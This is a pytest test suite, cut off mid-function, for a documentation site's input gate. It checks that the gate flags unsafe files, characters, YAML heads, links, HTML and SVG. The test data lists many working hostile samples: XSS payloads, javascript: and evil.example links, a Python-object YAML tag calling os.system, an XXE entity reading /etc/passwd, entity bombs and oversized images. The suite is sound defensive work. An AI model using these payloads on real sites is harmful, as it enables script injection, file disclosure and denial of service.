"""The source gate: what a stranger may not send, each with file, line and what to do."""

from __future__ import annotations

import os
import re
import socket
import struct
import subprocess
import sys
import time
import unicodedata
import zlib
from pathlib import Path

import pytest

from scripts import check_all, check_parity, check_sources, sync_figures
from scripts.core.finding import Finding
from scripts.gate.cost import cost_findings
from scripts.gate.gate import gate_findings
from scripts.gate.markup import markup_faults
from scripts.gate.pages import page_findings
from scripts.gate.plain import is_plain
from scripts.gate.rendering import EXTENSIONS, rendered
from tests.support import ROOT, run_command


def each(values):
    """One test for each value, named by its number and what of it can be printed."""
    return [pytest.param(one, id=f"{n} {ascii(one)[1:30]}") for n, one in enumerate(values)]


HEAD = "---\ntitle: A\ndescription: B\n---\n\n"  # six lines with the one that follows
BODY = 6  # the first line of what stands behind HEAD


def found(root):
    return {(one.path, one.line, one.rule) for one in gate_findings(root)[0]}


def of_page(body, head=HEAD):
    findings = page_findings("docs/en/x.md", head + body, (), EXTENSIONS)
    return sorted((one.line, one.rule) for one in findings)


def write(root, path, data):
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data if isinstance(data, bytes) else data.encode())
    return file


def test_the_site_itself_passes():
    findings, looked_at = gate_findings(ROOT)

    assert findings == []
    assert looked_at["files"] > 150


def test_the_tiny_tree_passes(tiny):
    assert found(tiny) == set()


# Files


def link(path):
    path.symlink_to("/etc/passwd")


def dangling(path):
    path.symlink_to("nowhere")


def link_within(path):
    path.symlink_to("index.md")


def folder_link(path):
    path.symlink_to("/etc")


def listening(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(str(path))


@pytest.mark.parametrize("make", [link, dangling, link_within, folder_link, os.mkfifo, listening])
@pytest.mark.parametrize("place", ["docs/en/x.md", "docs/data/x.toml", "overrides", "x"])
def test_only_regular_files_may_be_there(tiny, make, place):
    make(tiny / place)

    assert found(tiny) == {(place, 0, "file-kind")}


def test_a_linked_folder_of_pages_is_not_walked(tiny, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    write(elsewhere, "secret.md", HEAD)
    (tiny / "docs" / "fr").symlink_to(elsewhere)

    assert found(tiny) == {("docs/fr", 0, "file-kind")}


@pytest.mark.parametrize(
    "path",
    each(
        [
            "docs/foo.md",
            "docs/evil.html",
            "docs/fr/page.md",
            "docs/en/page.markdown",
            "docs/en/page.MD",
            "docs/en/page.html",
            "docs/en/page.md.exe",
            "docs/en/page",
            "docs/en/.hidden.md",
            "docs/en/.git/config",
            "docs/en/Page.md",
            "docs/en/a page.md",
            "docs/en/a\tpage.md",
            "docs/en/a\npage.md",
            "docs/en/\u202epage.md",
            "docs/en/صفحة.md",
            "docs/en/caf\u00e9.md",
            "docs/en/con.md",
            "docs/en/LPT1.md",
            "docs/en/page.md~",
            "docs/en/page.md.",
            "docs/en/page.md/x.md",
            "docs/assets/x.svg/y.svg",
            "docs/en/-page.md",
            "docs/en/<img src=x>.md",
            "docs/en/%2e%2e.md",
            f"docs/en/{'a' * 120}.md",
            f"docs/en/{'deep/' * 12}x.md",
            "docs/data/x.py",
            "docs/data/x.yml",
            "docs/assets/x.js",
            "docs/assets/charts/x.exe",
            "docs/assets/javascripts/x.html",
            "docs/assets/x.pdf",
            "docs/assets/x.swf",
            "overrides/main.py",
        ]
    ),
)
def test_a_file_has_a_name_and_a_place_that_the_site_knows(tiny, path):
    write(tiny, path, HEAD)

    rules = {(rule, line) for _, line, rule in found(tiny)}
    assert ("file-name", 0) in rules


def test_a_name_of_bytes_that_are_no_text_is_printed_all_the_same(tiny, capsys):
    (Path(os.fsdecode(os.fsencode(tiny) + b"/docs/en/\xff\xfe.md"))).write_bytes(HEAD.encode())

    assert run_command(check_sources.main, tiny) == 1
    assert "docs/en/\\xff\\xfe.md" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("one", "other"),
    [
        pytest.param("docs/en/readme.md", "docs/en/README.md", id="case"),
        pytest.param(
            f"docs/en/{unicodedata.normalize('NFC', 'café')}.md",
            f"docs/en/{unicodedata.normalize('NFD', 'café')}.md",
            id="NFC and NFD",
        ),
        pytest.param("docs/en/oil.md", "docs/en/oil/index.md", id="one address"),
    ],
)
def test_two_files_do_not_share_a_name(tiny, one, other):
    write(tiny, one, HEAD)
    write(tiny, other, HEAD)

    messages = [one.message for one in gate_findings(tiny)[0]]
    assert "two files share one name or one address" in messages


@pytest.mark.parametrize(
    ("path", "data"),
    [
        pytest.param("docs/en/x.md", HEAD + "a\n\n" * 300_000, id="a page of a megabyte"),
        pytest.param("docs/en/x.md", HEAD + "a" * 3_000, id="a line of prose"),
        pytest.param("docs/en/x.md", HEAD + "|" + "a" * 30_000 + "|", id="a row of a table"),
        pytest.param("docs/data/x.toml", 'a = "' + "a" * 5_000 + '"', id="a line of data"),
        pytest.param("docs/data/x.csv", "a,b\n" * 600_000, id="a table of megabytes"),
        pytest.param("docs/assets/x.svg", "<svg>" + " " * 300_000, id="a drawing"),
        pytest.param("docs/assets/x.png", b"\x89PNG\r\n\x1a\n" + b"0" * 2_000_000, id="a picture"),
    ],
)
def test_sizes_have_an_end(tiny, path, data):
    write(tiny, path, data)

    assert (path, "file-size") in {(one, rule) for one, _, rule in found(tiny)}


def test_a_file_that_nobody_may_read_is_named(tiny, monkeypatch):
    def refuse(*_args):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("scripts.gate.tree_files._bytes", refuse)

    assert ("docs/en/index.md", 0, "file-kind") in found(tiny)


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\0\0"))
    + chunk(b"IEND", b"")
)


def jpeg(width, height):
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"
    return (
        b"\xff\xd8\xff\xe0\0\4ab\xff\xc2" + struct.pack(">H", 2 + len(frame)) + frame + b"\xff\xd9"
    )


def webp(kind, header):
    inner = b"WEBP" + kind + struct.pack("<I", len(header)) + header
    return b"RIFF" + struct.pack("<I", len(inner)) + inner


def lossy(width, height):
    return webp(b"VP8 ", b"\x30\1\0\x9d\1\x2a" + struct.pack("<HH", width, height))


def lossless(width, height):
    return webp(b"VP8L", b"\x2f" + (width - 1 | (height - 1) << 14).to_bytes(4, "little") + b"\0")


def extended(width, height):
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return webp(b"VP8X", b"\0\0\0\0" + size)


@pytest.mark.parametrize("make", [jpeg, lossy, lossless, extended])
@pytest.mark.parametrize(("width", "height"), [(16_000, 9), (9, 16_000)])
def test_a_picture_does_not_unfold_into_gigabytes(tiny, make, width, height):
    place = "docs/assets/x.jpg" if make is jpeg else "docs/assets/x.webp"
    write(tiny, place, make(width, height))
    assert found(tiny) == {(place, 0, "file-kind")}

    write(tiny, place, make(800, 600))
    assert found(tiny) == set()


@pytest.mark.parametrize(
    ("path", "data"),
    [
        pytest.param("docs/assets/x.png", b"<svg onload=alert(1)>", id="no PNG"),
        pytest.param("docs/assets/x.png", b"", id="empty"),
        pytest.param("docs/assets/x.png", PNG[:40], id="cut off"),
        pytest.param("docs/assets/x.png", PNG + b"<script>", id="something behind it"),
        pytest.param("docs/assets/x.png", PNG.replace(b"IDAT", b"acTL"), id="a film"),
        pytest.param(
            "docs/assets/x.png",
            PNG[:16] + b"\x7f\xff\xff\xff" + PNG[20:],
            id="two thousand million wide",
        ),
        pytest.param("docs/assets/fonts/x.woff2", b"wOFF" + b"0" * 40, id="another font"),
        pytest.param("docs/assets/fonts/x.woff2", b"wOF2" + b"0" * 40, id="a font cut off"),
        pytest.param("docs/assets/x.jpg", b"GIF89a", id="no JPEG"),
        pytest.param("docs/assets/x.webp", b"RIFF0000WAVE", id="no WebP"),
    ],
)
def test_a_picture_is_one(tiny, path, data):
    write(tiny, path, data)

    assert found(tiny) == {(path, 0, "file-kind")}


def test_a_plain_picture_passes(tiny):
    write(tiny, "docs/assets/x.png", PNG)

    assert found(tiny) == set()


# Characters


@pytest.mark.parametrize(
    ("data", "line", "says"),
    [
        pytest.param(b"ok\ncaf\xe9\n", 2, "at byte 6", id="Latin-1"),
        pytest.param("مرحبا".encode("cp1256"), 1, "at byte 0", id="Windows Arabic"),
        pytest.param("a".encode("utf-16"), 1, "UTF-16", id="UTF-16"),
        pytest.param("a".encode("utf-16-be"), 1, "", id="UTF-16 without a mark"),
        pytest.param("a".encode("utf-32"), 1, "UTF-32", id="UTF-32"),
        pytest.param(b"a\n\xed\xa0\x80\n", 2, "at byte 2", id="a surrogate"),
        pytest.param(b"\xc0\xaf", 1, "at byte 0", id="overlong"),
        pytest.param(b"a\n\xf0\x9f\x98", 2, "at byte 2", id="cut off"),
    ],
)
def test_text_is_utf_8_and_the_byte_is_named(tiny, data, line, says):
    write(tiny, "docs/en/x.md", data)

    (finding,) = [one for one in gate_findings(tiny)[0] if one.path == "docs/en/x.md"]
    assert finding.line == line
    assert finding.rule in {"file-encoding", "hidden-character"}
    assert says in finding.message
    assert finding.fix


@pytest.mark.parametrize(
    ("path", "data", "rules"),
    [
        pytest.param("docs/en/x.md", b"\xef\xbb\xbf" + HEAD.encode() + b"a\n", set(), id="page"),
        pytest.param("docs/data/x.csv", b"\xef\xbb\xbfa,b\n1,2\n", set(), id="docs/data/x.csv"),
        pytest.param(
            "docs/data/x.toml", b"\xef\xbb\xbfa = 1\n", {"file-encoding"}, id="docs/data/x.toml"
        ),
        pytest.param(
            "docs/data/x.json", b"\xef\xbb\xbf{}\n", {"file-encoding"}, id="docs/data/x.json"
        ),
    ],
)
def test_a_byte_order_mark_stands_where_programs_bear_it(tiny, path, data, rules):
    write(tiny, path, data)

    assert {rule for _, _, rule in found(tiny)} == rules


@pytest.mark.parametrize(
    "text",
    each([
        "a\0b", "a\x08b", "a\x1b[31mb", "a\x7fb", "a\x85b", "a\x0bb", "a\u00adb", "a\u200bb",
        "a\u2028b", "a\u2060b", "a\ufeffb", "a\u202eb\u202c", "a\u202ab\u202c", "a\u206ab",
        "a\U000e0041b", "a\ufffdb", "a\ufff9b", "a\ue000b", "a\u3164b", "a\u034fb", "a\u2066b",
        "a\u2069b", "a\u2066b\n\u2069", "a\u200eb", "أ\u200f\u200fب", "`أ\u200fب`", "[أ](x\u200f.md)",
        "أ [x][a\u200f]", "a\u200db", "a\u200c", "1\u200c2", "a\rb", "Z\u0351\u0352\u0353\u0354\u0355x",
        "\x02wzxhzdk:0\x03", "a\ufdd0b", "a\U0001d173b", "a\u061cb",
        "a\ufe0fb", "❤\ufe00", "❤\ufe0f\ufe0f", "`\u2066a\u2069`",
        "| أ\u2066 | b\u2069 |", "أ" + "\u2067" * 5 + "ب" + "\u2069" * 5, "a&#x202E;b", "a&#8238;b", "a&ZeroWidthSpace;b",
        "a&#x2066;b", "a&lrm;b", "a&shy;b", "a&#0;b", "<bdi>a&#x202Ex</bdi>",
    ]),
)  # fmt: skip
def test_a_character_that_nobody_sees_is_named_and_never_printed(tiny, text, capsys):
    write(tiny, "docs/en/x.md", f"{HEAD}\nfirst\n{text}\n")

    assert run_command(check_sources.main, tiny) == 1
    shown = capsys.readouterr().out
    assert f"docs/en/x.md:{BODY + 2}: error: hidden-character" in shown
    assert re.search(r"U\+[0-9A-F]{4,5}", shown) or "by its number" in shown
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\x1b]", shown)


@pytest.mark.parametrize(
    "text",
    each([
        "أ\u200fب", "قال: هـ\u200d", "می\u200cخواهم", "\u2066+5%\u2069 نمو", "a\u00a0b", "1\u202f000",
        "1\ufe0f\u20e3 and ℹ\ufe0f", "أ&rlm;ب", "می&zwnj;خواهم", "5&nbsp;km", "`&#x202E;`", "```\n&#x202E;\n```",
        "| \u2066a\u2069 | \u2067ب\u2069 |", "«\u2067قال \u2066a\u2069\u2069»", "AT&T?a&shy=1",
        "👩\u200d🔬", "مُحَمَّدٌ", "crème brûlée", "a\tb", "Привет, 你好", "❤\ufe0f",
    ]),
)  # fmt: skip
def test_characters_that_languages_need_pass(tiny, text):
    write(tiny, "docs/en/x.md", f"{HEAD}\n{text}\n")

    assert found(tiny) == set()


@pytest.mark.parametrize("line", ["if \u2067admin\u2069:", "أ\u200fب", "\u2067"])
def test_no_direction_is_set_in_a_sample_of_code(tiny, line):
    write(tiny, "docs/ar/x.md", f"{HEAD}\n```\n{line}\n```\n")

    assert found(tiny) == {("docs/ar/x.md", BODY + 2, "hidden-character")}


@pytest.mark.parametrize(
    "mark", ["<<<<<<<", "<<<<<<< HEAD", ">>>>>>>", ">>>>>>> theirs", "||||||| base"]
)
def test_one_mark_of_a_merge_is_enough(tiny, mark):
    write(tiny, "docs/en/x.md", f"{HEAD}\n{mark}\n\ntext\n")

    assert ("docs/en/x.md", BODY + 1, "merge-conflict") in found(tiny)


def test_marks_of_a_merge_are_named(tiny):
    write(tiny, "docs/en/x.md", HEAD + "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> other\n")
    write(tiny, "docs/data/x.toml", "<<<<<<< HEAD\na = 1\n=======\na = 2\n>>>>>>> other\n")

    places = {(path, line) for path, line, rule in found(tiny) if rule == "merge-conflict"}
    assert {("docs/en/x.md", BODY + n) for n in (0, 2, 4)} <= places
    assert ("docs/data/x.toml", 1) in places


def test_a_heading_underlined_with_seven_signs_passes(tiny):
    write(tiny, "docs/en/x.md", HEAD + "Heading\n=======\n")

    assert found(tiny) == set()


# The head of a page


@pytest.mark.parametrize(
    ("head", "line"),
    [
        pytest.param("title: الطاقة: النفط", 2, id="a colon"),
        pytest.param('title: "الطاقة', 2, id="a quote"),
        pytest.param("title: A\n\tdescription: B", 3, id="a tab"),
        pytest.param("title: A\ntitle: B", 3, id="a key twice"),
        pytest.param("title: &a A\ndescription: *a", 2, id="an alias"),
        pytest.param("title: !!python/object/apply:os.system [x]", 2, id="Python"),
        pytest.param("title: !!str A", 2, id="a tag"),
        pytest.param("template: evil.html", 2, id="a template"),
        pytest.param("hide: [toc]", 2, id="an unknown key"),
        pytest.param("Title: A", 2, id="a key in capitals"),
        pytest.param("title: 2024", 2, id="a number"),
        pytest.param("title: no", 2, id="Norway"),
        pytest.param("title:", 2, id="nothing"),
        pytest.param("title: [a, b]", 2, id="a list"),
        pytest.param("title: {a: b}", 2, id="fields"),
        pytest.param('title: "<script>alert(1)</script>"', 2, id="markup"),
        pytest.param("title: a &lt;b", 2, id="an entity"),
        pytest.param('title: "a\\u202Eb"', 2, id="an escape"),
        pytest.param(f"title: {'a' * 300}", 2, id="a long title"),
        pytest.param("description: |\n  a\n  b", 2, id="lines"),
        pytest.param("reviewed: yesterday", 2, id="no day"),
        pytest.param("reviewed: 2026-13-45", 2, id="no such day"),
        pytest.param("reviewed: 2026-11-24 10:00:00", 2, id="a time"),
        pytest.param("reviewed: 0226-11-24", 2, id="a year that slipped"),
        pytest.param("reviewed: 24/11/2026", 2, id="another order"),
        pytest.param("changes: none", 2, id="no list"),
        pytest.param("changes:\n  - text: a", 3, id="a change without a date"),
        pytest.param("changes:\n  - date: 2026-01-01\n    text: 5", 4, id="a change that is a number"),
        pytest.param("<<: {a: b}", 2, id="a merge"),
        pytest.param("? [a]\n: b", 2, id="a list as key"),
        pytest.param("- a\n- b", 2, id="a list of texts"),
        pytest.param("just words", 2, id="words"),
        pytest.param("title: A\n---\ntitle: B\n...\nx: y", None, id="two documents"),
        pytest.param("title: " + "[" * 5_000, 2, id="deep"),
        pytest.param("\n".join(f"a{n}: &a{n} [*a{n - 1}]" for n in range(1, 9)), 2, id="a bomb"),
        pytest.param("title: \"\\x01\"", 2, id="a control"),
        pytest.param("title: @a", 2, id="a sign that YAML keeps"),
        pytest.param("title: %a", 2, id="a percent sign"),
    ],
)  # fmt: skip
def test_a_head_is_read_strictly(head, line):
    findings = [
        one
        for one in page_findings("docs/ar/x.md", f"---\n{head}\n---\n\nنص\n", (), EXTENSIONS)
        if one.rule == "front-matter"
    ]

    assert all(one.fix for one in findings)
    assert line is None or line in {one.line for one in findings}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        pytest.param("---\ntitle: A\n\n# A\n", 1, id="never closed"),
        pytest.param("\n---\ntitle: A\n---\n", 2, id="on the second line"),
        pytest.param(" ---\ntitle: A\n---\n", 1, id="a blank before"),
        pytest.param("——\ntitle: A\n——\n", 1, id="dashes"),
        pytest.param("----\ntitle: A\n----\n", 1, id="four hyphens"),
        pytest.param("title: <script>alert(1)</script>\n\nText\n", 1, id="the old way"),
    ],
)
def test_a_head_begins_and_ends(text, line):
    findings = list(page_findings("docs/ar/x.md", text, (), EXTENSIONS))

    assert (line, "front-matter") in {(one.line, one.rule) for one in findings}


def test_the_advice_for_a_colon_is_the_line_as_it_should_be():
    text = "---\ntitle: الطاقة: النفط والغاز\n---\n"
    (finding,) = page_findings("docs/ar/x.md", text, (), EXTENSIONS)

    assert finding.fix == 'title: "الطاقة: النفط والغاز"'


def test_every_fault_of_a_head_is_told_in_one_run():
    head = "---\ntitle: 5\nhide: x\nreviewed: never\ntitle: 6\n---\n"

    assert {line for line, _ in of_page("", head)} == {2, 3, 4, 5}


def test_a_head_with_windows_lines_is_read(tiny):
    write(tiny, "docs/en/x.md", (HEAD + "Text\n").replace("\n", "\r\n"))

    assert found(tiny) == set()


# Links

BAD_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&#10;script:alert(1)", "&#1;javascript:alert(1)", "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "blob:x", "//evil.example/x", "\\\\\\\\evil.example", "/\\\\evil.example", "https:\\\\\\\\evil.example",
    "tel:123", "https://bank.example@evil.example/", "https://user:pass@evil.example/", "intent:x",
    "ftp://a.example/", "mailto:a@b.org?cc=c@d.org", "mailto:a@b.org?subject=a%0d%0aBcc:x",
    "mailto:a@b.org?subject=a&bcc=c@d.org", "mailto:a@b.org?body=x", "https://аррӏе.com/", "https://", "view-source:x",
]  # fmt: skip


@pytest.mark.parametrize("address", each(BAD_ADDRESSES))
@pytest.mark.parametrize(
    "form", ["[a]({})", "[a](<{}>)", "[a][b]\n\n[b]: {}", '<a href="{}">a</a>', "- [a]({})"]
)
def test_an_address_is_judged_as_a_browser_reads_it(address, form):
    if "(<" in form and "<" in address:
        pytest.skip("no address in Markdown")

    findings = of_page("First.\n\n" + form.format(address) + "\n")

    assert {rule for _, rule in findings} <= {"unsafe-link", "unsafe-html"}
    if "<script" not in address or form.startswith("<a"):  # Markdown reads no link there
        assert findings
        assert findings[0][0] >= BODY + 2


@pytest.mark.parametrize(
    "text",
    each([
        "![a](https://evil.example/x.png)", "![a](//evil.example/x.png)", "![a](data:image/svg+xml,x)",
        "![a][b]\n\n[b]: https://evil.example/x.png", "[bank.example](https://evil.example/)",
        "[https://bank.example/a](https://evil.example/)",
        "[unused]: javascript:alert(1)", "> [b]: javascript:alert(1)\n>\n> [a][b]",
    ]),
)  # fmt: skip
def test_a_picture_is_our_own_and_a_link_does_not_lie(text):
    assert {rule for _, rule in of_page(f"{text}\n")} == {"unsafe-link"}


@pytest.mark.parametrize(
    "text",
    each([
        "[a](https://a.example/b?c=d&e=f#g)", "[a](trade.md#balance)", "[a](../data/x.csv)", "[a](#x)",
        "[a](mailto:a@b.org)", "<https://a.example/>", "[a.example](https://www.a.example/)",
        "[b](https://موقع.مصر/)", "[a](https://a.example/%D8%A7)", '[a](x.md "b")',
        "`[a](javascript:alert(1))`", "    [a](javascript:alert(1))", "[a](http://a.example:8080/)",
        "[a](https://a.example/(b))", "[Fig. 1](x.md)", "[a](mailto:a@b.org?subject=A%20slip%D8%A3)",
    ]),
)  # fmt: skip
def test_an_ordinary_link_passes(text):
    assert of_page(f"{text}\n") == []


# HTML

BAD_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=x oNeRrOr=alert(1)>", "<img/src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi>x</mi></math>",
    "<iframe src=x></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>", "<embed src=x>", "<form action=x><input></form>", "<button>x</button>",
    "<style>*{display:none}</style>", "<p style='color:red'>a</p>", "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=x'>", "<base href=//evil.example/>", "<video src=x></video>",
    "<details open ontoggle=alert(1)>a</details>", "<div onclick=alert(1)>a</div>", "<a href=x target=_blank>a</a>",
    "<a href=x ping=//evil.example>a</a>", "<p id=__config>a</p>", "<p id=location>a</p>", "<img name=body src=x>",
    "<p class=md-overlay>a</p>", "<p data-md-component=search>a</p>", "<plaintext>", "<xmp><script></xmp>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><script>'></noscript>",
    "<div>", "</div>", "<b>a", "</article></main><h1>a</h1>", "<body onload=alert(1)>", "<html onclick=x>",
    "<marquee>a</marquee>", "<input autofocus onfocus=alert(1)>", "<a href=x.md><p onmouseover=x>a</p></a>",
    "<p tabindex=-1>a</p>", "<p contenteditable>a</p>", "<dialog open>a</dialog>", "<p hidden>a</p>",
    "<select><option>a</select>", "<textarea>a</textarea>", "<canvas></canvas>", "<portal src=x></portal>",
    "a\n{: onclick='alert(1)' }", "# A {: onmouseover=alert(1) }", "*a*{: style='color:red' }",
    "![a](x.png){: onerror=alert(1) }", "[a](x.md){: target=_blank }", "# A {#__search}", "# A {#a\"b}",
    "| a |\n|---|\n| b {: onclick=x } |", "\\<script>", "<p lang='x\"y'>a</p>",
    "<!-- a --!><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<?php x ?><script>y</script>",
    "<div markdown onclick=x>\na\n</div>", "<p class='a\" onclick=x'>a</p>", "<![CDATA[a]]> b", "<!DOCTYPE html>",
    "<p title='a<img src=x onerror=alert(1)>'>a</p>", "[a](x.md \"&lt;img src=x&gt;\")", "<div markdown>\n\na",
    "<details markdown>\n<summary>a</summary>\n\n<div markdown>\n\nb\n\n</details>",
]  # fmt: skip


@pytest.mark.parametrize("text", each(BAD_HTML))
def test_html_is_judged_by_what_a_browser_makes_of_it(text):
    findings = of_page(f"First.\n\n{text}\n")

    assert "unsafe-html" in {rule for _, rule in findings}
    assert all(line >= BODY + 2 for line, rule in findings if rule == "unsafe-html")


@pytest.mark.parametrize(
    "text",
    each([
        "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
        "    <img src=x onerror=alert(1)>", "Less than < and more than >", "a &lt;script&gt; b",
        "<div class=\"key-points\" markdown>\n\n- a\n\n</div>", "<details markdown>\n<summary>a</summary>\n\nb\n\n</details>",
        "<bdi lang=\"en\">a</bdi>", "<time datetime=\"2026-01-01\">a</time>", "# A {#a-b}", "a[^1]\n\n[^1]: b",
        "*[GDP]: Gross domestic product\n\nGDP", "| a | b |\n|:--|--:|\n| 1 | 2 |", "!!! note\n    a",
        "??? note\n    a", "<!-- allow: x: y -->", "a  \nb", "H<sub>2</sub>O", "<br>", "a\n:   b",
        "`{: onclick=alert(1) }`", "1 < 2 && 3 > 2", "<https://a.example/>", "![a](x.png){ width=\"300\" }",
        "{{ config }}", "a {b} c", "    <div markdown>\n    a", "```\n<div markdown>\n```", "`<div markdown>` a", "`<![CDATA[` a",
        "<div markdown>\n\n<div markdown>\n\na\n\n</div>\n\n</div>", "AT&T and &amp; and &lt;b&gt;",
    ]),
)  # fmt: skip
def test_code_samples_and_what_the_site_uses_pass(text):
    assert of_page(f"First.\n\n{text}\n") == []


@pytest.mark.parametrize("text", each([*BAD_HTML, *(f"[a]({one})" for one in BAD_ADDRESSES)]))
def test_the_short_cut_lets_nothing_pass_that_the_long_way_finds(text):
    for body in (text, f"- {text}\n", f"> {text}\n", f"a {text} b", f"<bdi>a</bdi> {text}"):
        html = rendered("x", body)
        if isinstance(html, str) and list(markup_faults(html)):
            assert not is_plain(body)


def test_a_page_of_the_site_takes_the_short_cut():
    texts = [file.read_text("utf-8") for file in (ROOT / "docs").glob("*/*.md")]

    assert sum(is_plain(text.partition("\n---\n")[2]) for text in texts) > len(texts) / 2


def test_ten_faults_are_ten_places():
    body = "".join(f"{n} <img src=x.png onerror=alert({n})>\n\n" for n in range(10))

    assert [line for line, _ in of_page(body)] == [BODY + 2 * n for n in range(10)]


# Pages that would hold a parser

COSTLY = {
    "brackets": "[" * 50_000,
    "pictures": "![](" * 4_000,
    "links": "[a](" * 4_000,
    "references": "[x][" * 4_000,
    "brackets on lines": "[\n" * 5_000,
    "tags": "<a " * 6_000,
    "tags on lines": "<a \n" * 6_000,
    "declarations": "<![\n" * 4_000,
    "quotes": "> " * 500 + "a",
    "lists": "\n".join(" " * 4 * n + "- a" for n in range(300)),
    "lists on a line": "1. " * 500 + "a",
    "stars in a list": "* " * 500 + "a",
    "elements": "<div>\n" * 5_000,
    "backticks": "\n".join("`" * (n % 70 + 1) + " " for n in range(20_000)),
    "many backticks": "`a" * 200_000,
    "emphasis": "\n".join("*_" * 500 for _ in range(300)),
    "terms": "a\n: " * 5_000,
    "underlined": "a\n=\n" * 5_000,
    "meanings": "\n".join(f"*[a{n}]: b" for n in range(3_000)) + "\n\na0 a1",
    "footnotes": "".join(f"[^a{n}]: b\n" for n in range(3_000)),
    "fences": "```\n" * 5_000,
    "columns": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n",
    "rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * 60_000,
    "headings": "# a\n\n" * 5_000,
    "paragraphs": "a\n\n" * 40_000,
    "notes": "\n".join(" " * 4 * n + "!!! note" for n in range(100)),
    "a line": "a" * 400_000,
    "addresses": "<http://a\n" * 5_000,
    "backslashes": "\n".join("\\" * 500 for _ in range(300)),
    "items": "- a\n" * 100_000,
}


@pytest.mark.parametrize("name", COSTLY)
def test_a_page_that_would_hold_the_parser_is_refused_before_it_does(tiny, name, monkeypatch):
    def never(*_args):
        pytest.fail("the page was given to the parser")

    monkeypatch.setattr("scripts.gate.pages.rendered", never)
    write(tiny, "docs/en/x.md", f"{HEAD}{COSTLY[name]}\n")
    started = time.process_time()

    rules = {rule for path, _, rule in found(tiny) if path == "docs/en/x.md"}

    assert rules & {"page-cost", "file-size"}
    assert time.process_time() - started < 2


def test_no_page_of_the_site_is_near_a_limit():
    for file in (ROOT / "docs").glob("*/*.md"):
        text = file.read_text("utf-8")

        assert list(cost_findings("x", text + text)) == []


def test_what_nobody_has_thought_of_is_stopped_by_the_clock(monkeypatch):
    monkeypatch.setattr("scripts.gate.rendering.SECONDS", 0.1)

    finding = rendered("x", "[" * 5_000)

    assert isinstance(finding, Finding)
    assert (finding.rule, finding.message) == ("page-cost", "the page holds the Markdown parser")


# Drawings

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{}\n</svg>\n'
BAD_DRAWINGS = [
    "<script>alert(1)</script>", "<rect onload='alert(1)'/>", "<rect onclick='alert(1)'/>", "<foreignObject/>",
    "<image href='https://evil.example/x.png'/>", "<image href='data:image/svg+xml,x'/>", "<use href='https://evil.example/x#y'/>",
    "<use xlink:href='x.svg#y'/>", "<a href='javascript:alert(1)'><text>a</text></a>", "<animate attributeName='href'/>",
    "<set attributeName='onload' to='x'/>", "<style>@import 'https://evil.example/x.css';</style>", "<handler/>",
    "<style>rect{fill:url(https://evil.example/x)}</style>", "<rect fill='url(https://evil.example/x)'/>",
    "<rect style='fill:url(//evil.example)'/>", "<style>a{b:\\75rl(x)}</style>", "<rect fill='url( \"x.svg#a\")'/>",
    "<style><![CDATA[@import url(x);]]></style>", "<h:script xmlns:h='http://www.w3.org/1999/xhtml'/>", "<?xml-stylesheet href='x'?>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='x'/>", "<filter><feImage href='x'/></filter>", "<text>&evil;</text>",
    "<rect", "<rect></svg>", "<rect x=1/>", "<g>" * 100 + "</g>" * 100, "<metadata><x/></metadata>",
    "<rect xml:base='https://evil.example/'/>", "<style>@font-face{src:url(x)}</style>", "<text href='#a'>\0</text>",
]  # fmt: skip


@pytest.mark.parametrize("inner", each(BAD_DRAWINGS))
def test_a_drawing_draws_and_nothing_else(tiny, inner):
    write(tiny, "docs/assets/x.svg", SVG.format(inner))

    findings = found(tiny)
    assert ("docs/assets/x.svg", 2, "unsafe-drawing") in findings or {
        rule for _, _, rule in findings
    } & {"unsafe-drawing", "hidden-character"}


@pytest.mark.parametrize(
    "text",
    each([
        '<!DOCTYPE svg [<!ENTITY a "b">]>\n<svg/>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">\n' + SVG.format(""),
        '<!DOCTYPE a [' + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(1, 40)) + "]><svg>&a39;</svg>",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        '<?xml version="1.0" encoding="UTF-7"?>' + SVG.format(""),
        "<html><script>alert(1)</script></html>",
        "<svg>a</svg>",
        "",
        "not a drawing",
        '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
    ]),
)  # fmt: skip
def test_a_drawing_is_svg_without_a_doctype(tiny, text):
    write(tiny, "docs/assets/x.svg", text)

    assert {rule for _, _, rule in found(tiny)} == {"unsafe-drawing"}


def copied(levels, times):
    rows = [
